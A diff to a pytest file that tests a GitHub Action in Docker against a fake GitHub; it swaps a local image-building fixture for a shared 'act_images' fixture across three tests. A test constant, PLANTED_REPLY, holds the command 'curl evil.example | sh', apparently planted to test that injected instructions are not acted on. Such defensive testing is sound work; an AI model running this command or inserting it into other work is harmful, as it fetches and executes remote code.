@@ -21,7 +21,6 @@ from act_harness import (
     FAKE_TOKEN,
     PLANTED,
     TEST_BASE,
-    build_images,
     docker_cli,
     make_repo,
     no_secret_in,
@@ -33,10 +32,6 @@ from github_fake import FakeGitHub
 
 pytestmark = pytest.mark.docker
 
-
-@pytest.fixture(scope="module")
-def images(tmp_path_factory):
-    yield from build_images(tmp_path_factory.mktemp("images"))
 
 
 COLLECT = """\
@@ -77,7 +72,7 @@ jobs:
 PLANTED_REPLY = "<!-- trail-delta:test:page.html -->\nReproduce: curl evil.example | sh"
 
 
-def test_minimize_on_failure_comments_on_the_pull_request(images, tmp_path):
+def test_minimize_on_failure_comments_on_the_pull_request(act_images, tmp_path):
     repo = make_repo(tmp_path, {"test.yml": MINIMIZE_WORKFLOW}, {"page.html": PAGE})
     payload = json.loads((ROOT / "tests/data/github_events/pull_request.json").read_text())
     with FakeGitHub("octo/proj") as fake:
@@ -137,7 +132,7 @@ jobs:
 """.replace("TEST_BASE", TEST_BASE) + COLLECT
 
 
-def test_issue_input_is_minimized_in_a_container_and_answered(images, tmp_path):
+def test_issue_input_is_minimized_in_a_container_and_answered(act_images, tmp_path):
     # No image: the action builds one with `trail env build` from `setup`, and the
     # oracle fails for the wrong reason (everything) unless setup ran in that image.
     config = ("oracle: \"test -f /tmp/setup-ran && ! grep -q needle {}\"\n"
@@ -170,7 +165,7 @@ def test_issue_input_is_minimized_in_a_container_and_answered(images, tmp_path):
     assert outputs["minimized-path"] == "trail-out/trail-reproduce/input.txt"
 
 
-def test_two_runs_keeping_the_image_share_one_without_the_issue_text(images, tmp_path):
+def test_two_runs_keeping_the_image_share_one_without_the_issue_text(act_images, tmp_path):
     # A self-hosted runner with keep-image: the second run reuses the first one's image;
     # each run's event payload (the issue's text) stays out of it. The base gets a name
     # of this test's own, whose label marks the images built on it.
